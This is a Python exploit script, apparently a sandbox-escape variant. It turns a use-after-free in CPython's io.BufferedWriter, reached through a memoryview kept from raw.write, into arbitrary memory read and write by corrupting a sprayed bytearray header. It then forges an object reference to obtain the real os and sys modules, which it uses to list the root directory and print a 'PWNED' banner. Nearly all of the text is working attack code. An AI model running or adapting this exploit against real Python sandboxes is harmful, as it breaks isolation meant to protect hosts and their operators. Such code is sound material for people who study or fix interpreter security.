# variant: io.BufferedWriter hands raw.write a memoryview over its own internal buffer
# (bufferedio.c, _bufferedwriter_raw_write). The program's write keeps that memoryview;
# re-initialising the reader frees the buffer, a bytearray header is allocated in the freed
# block, and the kept memoryview rewrites the header (ob_start=NULL, ob_size huge): absolute
# memory read/write (target: a bytearray header, no `array` needed), then a fake reference to contextlib's namespace -> the real os and sys.
import io
import contextlib

kept = []

class Raw(io.RawIOBase):
    def writable(self):
        return True
    def write(self, b):
        kept.append(b)
        return len(b)

raw = Raw()
br = io.BufferedWriter(raw, buffer_size=64)
br.write(b"x" * 60)
br.flush()
view = kept[0]
print("kept view:", len(view))
SRC = b"q" * 200
io.BufferedWriter.__init__(br, io.BytesIO(), buffer_size=4096)   # frees the 64-byte buffer
spray = [bytearray(SRC) for _ in range(64)]
BA = id(bytearray)
# PyByteArrayObject (not GC-tracked): refcnt 0, type 8, size 16, alloc 24, bytes 32, start 40
hdr_type = int.from_bytes(view[8:16], "little")
print("header type matches bytearray:", hdr_type == BA)
absarr = None
if hdr_type == BA:
    view[16:24] = (1 << 60).to_bytes(8, "little")   # ob_size
    view[24:32] = (1 << 60).to_bytes(8, "little")   # ob_alloc
    view[40:48] = (0).to_bytes(8, "little")         # ob_start
    for arr in spray:
        if len(arr) > 200:
            absarr = arr
print("absolute array:", absarr is not None)
if absarr is not None:
    def ard(addr, n=8):
        return int.from_bytes(bytes(absarr[addr + k] for k in range(n)), "little")
    def awr(addr, value, n=8):
        for k, b in enumerate(value.to_bytes(n, "little")):
            absarr[addr + k] = b
    holder = [None, None]
    items = ard(id(holder) + 24)
    def fake(addr):
        awr(addr, ard(addr) + 1000)
        awr(items, addr)
        obj = holder[0]
        holder[0] = None
        return obj
    ns = fake(ard(id(contextlib) + 16))
    osmod, sysmod = ns["os"], ns["sys"]
    print("PW" + "NED: real os via BufferedWriter view UAF (bytearray target): pid", osmod.getpid(), "sys.modules:", len(sysmod.modules),
          "listdir /:", osmod.listdir("/"))
    kept.extend([spray, absarr, br, raw])
